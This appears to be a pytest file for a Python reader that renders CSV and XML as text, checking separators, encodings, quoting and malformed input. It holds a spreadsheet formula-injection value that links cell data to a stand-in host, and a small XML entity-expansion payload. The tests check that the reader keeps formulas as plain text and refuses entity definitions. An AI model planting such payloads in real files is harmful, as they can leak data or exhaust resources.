"""Tables as text, and XML."""

from __future__ import annotations

import pytest

from tests.places import SAMPLE
from workbench.reading import markup, tables
from workbench.reading.pages import Reading, Unreadable


def rows(data: bytes) -> list[str]:
    return "".join(tables.read(data, "a.csv", None).pages).split("\n")


@pytest.mark.parametrize("separator", [",", ";", "\t", "|"])
@pytest.mark.parametrize("codec", ["utf-8-sig", "gb18030", "utf-16"])
def test_each_separator_and_encoding(separator: str, codec: str) -> None:
    table = "\r\n".join(separator.join(row) for row in [("姓名", "单位"), ("张三", "浙江大学"), ("李四", "")])
    assert rows(table.encode(codec)) == ["姓名 | 单位", "张三 | 浙江大学", "李四 |"]


def test_quotes_line_ends_and_commas_within_cells() -> None:
    data = b'name;note\n"Wei An";"one, two\nthree"\n\n"a ""b""";1,5\n'
    assert rows(data) == ["name | note", "Wei An | one, two three", 'a "b" | 1,5']


def test_a_line_that_says_its_separator() -> None:
    assert rows(b"sep=;\na,b;c\n") == ["a,b | c"]


def test_formulas_are_text() -> None:
    assert rows(b'name,note\n=HYPERLINK("http://x.example/"&A1),y\n+1+1,-2\n') == [
        "name | note",
        '=HYPERLINK("http://x.example/"&A1) | y',
        "+1+1 | -2",
    ]


def test_a_cell_longer_than_the_library_s_limit() -> None:
    reading = tables.read(b'a,b\n1,"' + b"x" * 150_000 + b'"\n', "a.csv", None)
    assert reading.pages == ("a | b\n1 | " + "x" * 150_000,)


def test_one_column() -> None:
    assert rows("人才\n启明\n".encode()) == ["人才", "启明"]


def test_the_sample_s_log_of_requests() -> None:
    reading = tables.read((SAMPLE / "03_letters" / "no_answer_log.csv").read_bytes(), "no_answer_log.csv", None)
    assert (reading.kind, reading.state, reading.reason) == ("csv", "ok", None)
    assert reading.pages[0].split("\n")[:2] == [
        "request | to | channel | sent | outcome | checked by",
        "R01 | State Council Information Office | email | 2023-08-07 | no answer by 2023-08-16 | desk",
    ]


def test_xml_gives_the_text_of_its_elements() -> None:
    data = '<?xml version="1.0" encoding="gb18030"?><rss><!-- no --><title>启明\n计划</title><b a="x">二</b> </rss>'
    assert markup.read(data.encode("gb18030"), "a.xml", None) == Reading(
        kind="xml", state="ok", reason=None, pages=("启明 计划\n二",)
    )


def test_broken_xml_is_shown_with_its_tags() -> None:
    assert markup.read("<a>启明</b>".encode(), "a.xml", None) == Reading(
        kind="xml",
        state="partial",
        reason="It is not well-formed XML: it is shown with its tags.",
        pages=("<a>启明</b>",),
    )


@pytest.mark.parametrize("codec", ["utf-8", "utf-16"])
def test_entity_definitions_are_refused(codec: str) -> None:
    bomb = '<!DOCTYPE x [<!ENTITY a "启明"><!ENTITY b "&a;&a;">]><x>&b;</x>'
    with pytest.raises(Unreadable, match="It contains entity definitions"):
        markup.read(bomb.encode(codec), "a.xml", None)
